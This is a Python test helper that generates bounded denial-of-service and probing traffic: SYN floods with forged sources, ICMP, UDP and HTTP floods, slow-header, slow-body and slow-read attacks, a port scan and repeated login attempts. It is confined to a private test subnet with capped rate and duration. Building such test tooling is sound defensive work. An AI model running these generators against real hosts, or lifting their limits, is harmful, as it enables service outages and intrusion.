"""Small, bounded attackers for the network namespaces of behaviour_test.py; nowhere else.

usage: attackers.py KIND ADDRESS PORT SECONDS

Refuses any address outside 10.77.0.0/24, which exists in those namespaces alone. At most 2,000 packets
per second for at most 5 seconds. Prints the time at which it begins.
"""

import http.client
import random
import socket
import struct
import sys
import time

RATE = 2000
MOST_SECONDS = 5
NETWORK = "10.77.0."


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ip_packet(source, target, proto, body):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), random.randrange(65536), 0, 64, proto, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def syn(source, target, port):
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port, random.randrange(1 << 32), 0, 0x50, 2,
                      64240, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return ip_packet(source, target, 6, tcp)


def icmp(source, target, _port):
    echo = struct.pack("!BBHHH", 8, 0, 0, 7, random.randrange(65536)) + b"x" * 16
    return ip_packet(source, target, 1, echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:])


def paced(seconds, rate=RATE):
    """Yields at an even pace, and never for longer than `seconds`."""
    begin = time.monotonic()
    sent = 0
    while time.monotonic() < begin + seconds:
        while sent < (time.monotonic() - begin) * rate:
            sent += 1
            yield sent
        time.sleep(0.001)


def raw(make, target, port, seconds, source):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        for _ in paced(seconds):
            out.sendto(make(source(), target, port), (target, 0))


def forged():
    return f"198.18.{random.randrange(256)}.{random.randrange(1, 255)}"


def own_address():
    return NETWORK + "2"


def udp(target, port, seconds):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        for _ in paced(seconds):
            try:
                out.sendto(b"x" * 64, (target, port))
            except ConnectionRefusedError:
                pass


def http_flood(target, port, seconds, rate=600):
    connections = [http.client.HTTPConnection(target, port, timeout=2) for _ in range(4)]
    for n in paced(seconds, rate):
        connection = connections[n % 4]
        connection.request("GET", f"/?{n}")
        connection.getresponse().read()


def crawl(target, port, seconds):
    connection = http.client.HTTPConnection(target, port, timeout=2)
    for n in paced(seconds, 600):
        connection.request("GET", f"/page/{n}")
        connection.getresponse().read()


def slow(target, port, seconds, first, more, window=None):
    sockets = []
    for _ in range(60):
        client = socket.socket()
        if window:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
        client.connect((target, port))
        client.sendall(first)
        sockets.append(client)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        time.sleep(0.5)
        for client in sockets:
            if more:
                try:
                    client.sendall(more)
                except OSError:
                    pass


def scan(target, _port, seconds):
    for n in paced(seconds, 300):
        with socket.socket() as client:
            client.setblocking(False)
            client.connect_ex((target, 1000 + n))


def guess(target, port, seconds):
    for _ in paced(seconds, 40):
        connection = http.client.HTTPConnection(target, port, timeout=2)
        connection.request("GET", "/login", headers={"Authorization": "Basic YTpi"})
        connection.getresponse().read()
        connection.close()


KINDS = {
    "syn-forged": lambda *a: raw(syn, *a, forged),
    "syn": lambda *a: raw(syn, *a, own_address),
    "icmp": lambda *a: raw(icmp, *a, own_address),
    "udp": udp,
    "http": http_flood,
    "crawl": crawl,
    "slow-headers": lambda *a: slow(*a, b"GET / HTTP/1.1\r\nHost: a\r\n", b"X-a: b\r\n"),
    "slow-body": lambda *a: slow(*a, b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 9000\r\n\r\n", b"a=b&"),
    "slow-read": lambda *a: slow(*a, b"GET /big HTTP/1.1\r\nHost: a\r\n\r\n", b"", 1024),
    "scan": scan,
    "guess": guess,
}

if __name__ == "__main__":
    kind, address, number, length = sys.argv[1:5]
    if not address.startswith(NETWORK):
        sys.exit(f"attackers.py: {address} is not in {NETWORK}0/24")
    print(time.time(), flush=True)
    KINDS[kind](address, int(number), min(float(length), MOST_SECONDS))
